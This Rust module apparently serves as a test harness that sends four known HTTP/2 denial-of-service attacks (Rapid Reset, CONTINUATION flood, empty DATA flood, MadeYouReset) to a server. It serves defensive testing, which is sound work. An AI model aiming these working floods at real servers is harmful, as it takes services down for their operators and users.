//! What hostile HTTP/2 clients send, frame by frame.

use super::frames::{
    CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, PREFACE, RST_STREAM, SETTINGS, fields, frame,
};
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;

/// `:method GET`, `:scheme http`, `:path /`, `:authority a` (RFC 7541 appendix A).
const GET: &[u8] = &[0x82, 0x86, 0x84, 0x41, 0x01, b'a'];

fn opening() -> Vec<u8> {
    let mut bytes = PREFACE.to_vec();
    bytes.extend(frame(SETTINGS, 0, 0, &[]));
    bytes
}

/// Sends all of it, and returns when the peer has ended the connection.
async fn until_ended(io: &mut TcpStream, bytes: &[u8]) {
    let (mut from, mut to) = io.split();
    let mut answer = Vec::new();
    // It may be cut off before all of it is taken; a reset is an end as well.
    let _ = tokio::join!(to.write_all(bytes), from.read_to_end(&mut answer));
}

/// Requests that are reset at once (CVE-2023-44487).
pub async fn rapid_reset(io: &mut TcpStream) {
    let mut bytes = opening();
    for stream in (1..20_000).step_by(2) {
        bytes.extend(frame(HEADERS, END_STREAM | END_HEADERS, stream, GET));
        bytes.extend(frame(RST_STREAM, 0, stream, &8_u32.to_be_bytes()));
    }
    until_ended(io, &bytes).await;
}

/// A list of fields without an end (CVE-2024-27316).
pub async fn continuation(io: &mut TcpStream) {
    let mut bytes = opening();
    bytes.extend(frame(HEADERS, END_STREAM, 1, GET));
    // A literal field that is not indexed: x: y.
    let fields = [0x00, 0x01, b'x', 0x01, b'y'].repeat(200);
    for _ in 0..5_000 {
        bytes.extend(frame(CONTINUATION, 0, 1, &fields));
    }
    until_ended(io, &bytes).await;
}

/// DATA frames with nothing in them (CVE-2019-9518).
pub async fn empty_data(io: &mut TcpStream) {
    let mut bytes = opening();
    let post = [
        (":method", "POST"),
        (":scheme", "http"),
        (":path", "/"),
        (":authority", "a"),
    ];
    bytes.extend(frame(HEADERS, END_HEADERS, 1, &fields(&post)));
    for _ in 0..1_000_000 {
        bytes.extend(frame(DATA, 0, 1, &[]));
    }
    until_ended(io, &bytes).await;
}

/// Requests that the server must reset (MadeYouReset, CVE-2025-8671): each increments its window beyond the largest.
pub async fn made_to_reset(io: &mut TcpStream) {
    const WINDOW_UPDATE: u8 = 8;
    let mut bytes = opening();
    for stream in (1..20_000).step_by(2) {
        bytes.extend(frame(HEADERS, END_STREAM | END_HEADERS, stream, GET));
        bytes.extend(frame(WINDOW_UPDATE, 0, stream, &0x7fff_ffff_u32.to_be_bytes()));
    }
    until_ended(io, &bytes).await;
}
